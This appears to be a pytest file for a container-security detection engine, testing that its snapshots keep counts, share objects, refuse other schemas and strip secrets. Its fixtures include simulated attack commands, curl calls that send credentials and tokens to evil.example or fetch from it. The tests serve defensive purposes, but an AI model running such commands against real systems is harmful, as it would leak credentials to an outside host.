"""Holds what a snapshot must keep that no verdict shows: fates, one node of several names, no secrets, its own form."""

import msgspec
import pytest

from engine_cases import EVIL, engine
from made_events import attack, cid, connected, created, entered, feed, finished, pod_of, ran, started
from tidewaiter.engine import Engine

HUSH = "geheim" * 3


def test_record_that_waited_over_a_restart_is_counted_once() -> None:
    """Its fate is known when its container is, by the lines it stood in."""
    machine = engine()
    machine.feed_record("auditd", [ran(9, None, "sh"), ran(9, "a", "curl", prefix=12)], 3)
    moved = engine(state=Engine.restore(machine.snapshot()))
    assert moved.ledger.outcomes()["waiting"] == 3
    feed(moved, [created(0, "a", EVIL), started(1, "a")])
    assert moved.ledger.counts["auditd"] == {"waiting": 0, "used": 3}
    summary = finished(moved).summary
    assert summary.records == 5 == summary.outcomes["used"]


def test_no_secret_of_what_waits_is_in_a_snapshot() -> None:
    """Nor of what was given out."""
    machine = engine(live=True)
    secret = ("curl", "-u", f"me:{HUSH}", f"http://me:{HUSH}@evil.example/?token={HUSH}")
    feed(machine, [*attack(), ran(12, "a", *secret), ran(9, "b", *secret, prefix=12)])
    feed(machine, [entered(9, "c", *secret, prefix=12)])
    assert len(machine.activity.waiting) == 2
    assert HUSH.encode() not in machine.snapshot()
    assert b"curl" in machine.snapshot()


def test_secrets_are_kept_where_the_user_asked_for_it() -> None:
    """`--keep-arguments` opts out."""
    machine = engine(keep_arguments=True)
    feed(machine, [ran(9, "b", "curl", f"--token={HUSH}", prefix=12)])
    assert HUSH.encode() in machine.snapshot()


def test_node_of_several_names_is_written_once() -> None:
    """However many sensors call it something else."""
    machine = engine()
    feed(machine, attack())
    before = machine.snapshot().count(cid("a").encode())
    feed(machine, [ran(20, "a", "id", node=f"sensor-{number}") for number in range(50)])
    assert machine.snapshot().count(cid("a").encode()) == before


def test_snapshot_of_another_form_is_refused() -> None:
    """A state that is laid out otherwise cannot be gone on from."""
    told = msgspec.msgpack.decode(engine().snapshot())
    with pytest.raises(ValueError, match="not a snapshot"):
        Engine.restore(msgspec.msgpack.encode({**told, "schema": 2}))


def test_snapshot_does_not_change_who_goes_on() -> None:
    """Two in a row are the same bytes, and so is one of the engine that took it up."""
    machine = engine(live=True)
    feed(machine, [*attack(), ran(9, "b", "curl", prefix=12), connected(9, None, pid=7)])
    first = machine.snapshot()
    assert machine.snapshot() == first
    moved = engine(live=True, state=Engine.restore(first))
    assert len(moved.snapshot()) == len(first)


def test_what_many_share_is_one_object_after_a_restart_too() -> None:
    """A thousand containers of one image take no more room than before."""
    machine = engine()
    command = ("curl", "-s", "http://evil.example/x")
    feed(machine, [event for name in "ab" for event in (created(0, name, EVIL), ran(9, name, *command))])
    moved = engine(state=Engine.restore(machine.snapshot()))
    one, other = moved.directory.chains()
    assert one.claims[0] is other.claims[0]
    assert one.actions[0].args is other.actions[0].args
    assert one.node is other.node
    assert msgspec.msgpack.decode(moved.snapshot()) == msgspec.msgpack.decode(machine.snapshot())


def test_snapshot_keeps_what_waits_for_whom_by_whatever_name() -> None:
    """By id, by process, by address; execs, flows and stages alike; and glimpses, by the same name in every run."""
    machine = engine()
    flow = connected(9, None, src_ip="10.0.0.9", pid=None)
    quiet = connected(9, "a", "127.0.0.1", prefix=12)
    feed(machine, [started(1, "a", prefix=12), ran(9, None, "curl", pid=7), flow, quiet])
    moved = engine(state=Engine.restore(machine.snapshot()))
    assert moved.activity.waiting.entries() == machine.activity.waiting.entries()
    assert len(moved.activity.waiting) == 4
    assert moved.feed_record("falco", [quiet]) == []
    assert len(moved.activity.waiting) == 4


def test_long_command_line_that_waits_over_a_restart_is_cut_as_any_other() -> None:
    """What is cut twice would tell of another command."""
    addresses = (f"http://me:pw@evil.example/{number}" for number in range(3000))
    long = ran(9, "a", "curl", "--token=geheim", *addresses, prefix=12)
    shown = []
    for is_moved in (False, True):
        machine = engine()
        feed(machine, [long])
        if is_moved:
            machine = engine(state=Engine.restore(machine.snapshot()))
        feed(machine, [created(0, "a", EVIL), started(1, "a")])
        shown.append(finished(machine).only)
    assert shown[0] == shown[1]


@pytest.mark.parametrize("is_moved", [False, True])
def test_what_is_lost_at_the_end_is_counted_once(is_moved: bool) -> None:
    """Whoever finishes twice, and whoever finds the container between two ends."""
    machine = engine()
    feed(machine, [connected(9, None, pod=pod_of("web"), source="hubble") for _ in range(2)])
    feed(machine, [connected(10, None, pod=pod_of("web"), source="hubble")])
    for _ in range(2):
        assert finished(machine).summary.sources["hubble"].unattributed == 2
        if is_moved:
            machine = engine(state=Engine.restore(machine.snapshot()))
    feed(machine, [created(0, "a", EVIL, pod=pod_of("web", "c"))])
    assert finished(machine).summary.sources["hubble"].unattributed == 0
